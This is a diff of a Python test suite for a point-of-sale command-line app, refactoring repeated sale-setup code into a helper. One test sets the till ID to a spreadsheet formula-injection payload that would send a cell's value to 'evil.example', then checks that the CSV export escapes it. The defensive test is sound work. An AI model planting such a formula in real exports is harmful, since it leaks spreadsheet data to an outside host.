@@ -74,18 +74,23 @@ def test_missing_column_and_missing_file(tmp_path):
     assert pos("--data-dir", str(data), "catalog", "import", str(tmp_path / "nope.csv")).returncode == 2
 
 
-def test_receipts_export_after_sales(tmp_path, sandbox, api_key):
-    data = tmp_path / "data"
-    env = {"POS_STRIPE_API_KEY": api_key}
+def _sell(data, sandbox, api_key, count: int) -> None:
+    """`count` card sales through the app's own wiring (tests/helpers/sell.py), in its own process."""
     sold = subprocess.run(
-        [sys.executable, "-m", "tests.helpers.sell", str(data), sandbox.url, "3"],
+        [sys.executable, "-m", "tests.helpers.sell", str(data), sandbox.url, str(count)],
         capture_output=True,
         text=True,
-        env=dict(os.environ, PYTHONPATH=str(ROOT), **env),
+        env=dict(os.environ, PYTHONPATH=str(ROOT), POS_STRIPE_API_KEY=api_key),
         cwd=ROOT,
         timeout=120,
     )
     assert sold.returncode == 0, sold.stderr
+
+
+def test_receipts_export_after_sales(tmp_path, sandbox, api_key):
+    data = tmp_path / "data"
+    env = {"POS_STRIPE_API_KEY": api_key}
+    _sell(data, sandbox, api_key, 3)
     as_csv = pos("--data-dir", str(data), "receipts", "export", env=env)
     rows = list(csv.DictReader(io.StringIO(as_csv.stdout)))
     assert [r["receipt_no"] for r in rows] == ["1", "2", "3"]
@@ -133,16 +138,7 @@ def test_csv_exports_quote_a_till_id_a_spreadsheet_would_run(tmp_path, sandbox, 
     data = tmp_path / "data"
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"T1")'
     assert pos("--data-dir", str(data), "settings", "set", "till_id", hostile).returncode == 0
-    env = {"POS_STRIPE_API_KEY": api_key}
-    sold = subprocess.run(
-        [sys.executable, "-m", "tests.helpers.sell", str(data), sandbox.url, "1"],
-        capture_output=True,
-        text=True,
-        env=dict(os.environ, PYTHONPATH=str(ROOT), **env),
-        cwd=ROOT,
-        timeout=120,
-    )
-    assert sold.returncode == 0, sold.stderr
+    _sell(data, sandbox, api_key, 1)
     [row] = list(csv.DictReader(io.StringIO(pos("--data-dir", str(data), "receipts", "export").stdout)))
     assert row["till_id"] == "'" + hostile and row["total_minor"] == "450"
     day = row["created_at"][:10]
